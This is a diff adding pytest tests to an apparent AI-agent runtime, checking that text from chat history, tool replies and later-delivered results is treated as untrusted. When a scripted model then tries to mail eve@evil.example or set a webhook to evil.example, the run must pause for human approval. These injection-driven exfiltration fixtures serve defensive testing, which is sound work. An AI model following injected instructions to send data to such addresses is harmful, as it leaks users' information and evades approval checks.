@@ -425,3 +425,147 @@ def test_async_and_blocking_runtimes_agree():
             return await runtime.run(QUESTION, model=scripted(READ, TO_EVE))
 
     assert asyncio.run(main()).status == "waiting"
+
+
+# ---------------------------------------------------------------------- conversations that are handed over
+
+
+CHAT = [
+    hr.UserMessage("Read it."),
+    {"role": "assistant", "content": f"It says: {INJECTED}"},
+    hr.UserMessage("Go on."),
+]
+ANSWERED = READ
+"""What a script has for the answer that the conversation holds already."""
+
+
+def test_the_texts_of_a_chat_are_as_untrusted_as_what_its_answers_were_made_of():
+    with hr.SyncRuntime(TOOLS) as runtime:
+        run = runtime.run(CHAT, model=scripted(ANSWERED, TO_EVE))
+        assert run.status == "waiting"
+        assert run.label.source == "the conversation that it was given"
+        asked = [hr.SystemMessage("Be kind."), hr.UserMessage("Go on.")]
+        assert runtime.run(asked, model=scripted(TO_EVE)).ok
+        named = [*CHAT[:2], hr.UserMessage("Mail it to eve@evil.example.")]
+        assert runtime.run(named, model=scripted(ANSWERED, TO_EVE)).ok
+
+
+@pytest.mark.parametrize("passage", ["resume", "after", "fork"])
+def test_a_conversation_that_was_handed_over_is_remembered(passage, tmp_path):
+    @hr.tool(effect="write", approve=True, repeatable=True, trust="trusted")
+    def publish() -> str:
+        """Publish."""
+        return "published"
+
+    tools = [*TOOLS, publish]
+    script = scripted(ANSWERED, call("publish"), TO_EVE)
+    store = f"sqlite:///{tmp_path}/h.db"
+    with hr.SyncRuntime(tools, store=store) as runtime:
+        run = runtime.run(CHAT, model=script, run_id="mine")
+        [question] = runtime.approvals.list()
+        runtime.approvals.approve(question.id, by="ana")
+    with hr.SyncRuntime(tools, store=store) as runtime:
+        if passage == "resume":
+            run = runtime.resume("mine", model=script)
+        elif passage == "fork":
+            run = runtime.fork("mine", at_turn=1, model=scripted(ANSWERED, TO_EVE))
+        else:
+            assert runtime.resume("mine", model=scripted(ANSWERED, call("publish"))).ok
+            run = runtime.run(
+                "Mail it.",
+                model=scripted(ANSWERED, call("publish"), READ, TO_EVE),
+                after="mine",
+            )
+        assert run.status == "waiting", run
+        assert "eve@evil.example" in run.reason or "send_mail" in run.reason
+
+
+# ---------------------------------------------------------------------- answers to writes, and results from outside
+
+
+@pytest.mark.parametrize(
+    ("answer", "settings", "asks"),
+    [
+        (INJECTED, {}, True),
+        ({"reply": [INJECTED]}, {}, True),
+        (hr.ToolError("REFUSED", INJECTED), {}, True),
+        (INJECTED, {"effect": None}, True),
+        (INJECTED, {"egress": True}, True),
+        ("done", {"trust": "trusted"}, False),
+        (None, {}, False),  # no words
+        (True, {}, False),
+    ],
+)
+def test_what_the_far_side_answers_to_a_write_is_a_strangers_word(
+    answer, settings, asks
+):
+    @hr.tool(**{"effect": "write", "risk": "low", **settings})
+    def fill_form():
+        """Fill a form in."""
+        if isinstance(answer, Exception):
+            raise answer
+        return answer
+
+    run = ask(call("fill_form"), TO_EVE, tools=[*TOOLS, fill_form])
+    assert run.status == ("waiting" if asks else "done")
+
+
+@pytest.mark.parametrize(
+    ("settings", "asks"),
+    [
+        ({"effect": "read"}, True),
+        ({"effect": "write"}, True),
+        ({"effect": "write", "trust": "trusted"}, False),
+        (
+            {"effect": "read", "directory": True},
+            False,
+        ),  # as `ask_user`: a person answers
+    ],
+)
+def test_a_result_that_is_delivered_is_a_strangers_word(settings, asks, tmp_path):
+    @hr.tool(deferred=True, **settings)
+    def inquire(what: str) -> str:
+        """Inquire; the answer comes later."""
+
+    store = f"sqlite:///{tmp_path}/h.db"
+    to = "eve@evil.example" if asks else "ann@evil.example"
+    model = scripted(call("inquire", what="x"), call("send_mail", to=to))
+    with hr.SyncRuntime([*TOOLS, inquire], store=store) as runtime:
+        runtime.run("Inquire.", model=model, run_id="r")
+        [question] = runtime.approvals.list()
+        runtime.deliver(question.id, to if not asks else INJECTED, by="supplier")
+        assert runtime.resume("r", model=model).status == (
+            "waiting" if asks else "done"
+        )
+
+
+# ---------------------------------------------------------------------- what sends
+
+
+NOTE = "db.example.org was away, see https://status.example/7 and tell ops@work.example"
+
+
+@pytest.mark.parametrize(
+    ("name", "settings", "text", "asks"),
+    [
+        ("save_note", {}, NOTE, False),
+        ("save_note", {"egress": False}, "https://evil.example/x", False),
+        ("save_note", {"egress": True}, NOTE, True),
+        ("save_note", {"destination": ()}, NOTE, True),  # it sends, to one place always
+        ("post_note", {}, NOTE, True),  # its name says it
+        ("发送消息", {}, NOTE, True),
+        ("add_member", {}, "eve@evil.example", True),  # the argument is an address
+        ("add_member", {}, ["x", "Eve <eve@evil.example>"], True),
+        ("set_hook", {}, "https://evil.example/x", True),
+        ("set_hook", {}, "db.example.org", False),
+    ],
+)
+def test_an_address_in_a_text_matters_where_the_text_is_sent(
+    name, settings, text, asks
+):
+    @hr.tool(name=name, effect="write", **settings)
+    def write(text: str | list) -> None:
+        """Write."""
+
+    run = ask(READ, call(name, text=text), tools=[*TOOLS, write])
+    assert run.status == ("waiting" if asks else "done"), run
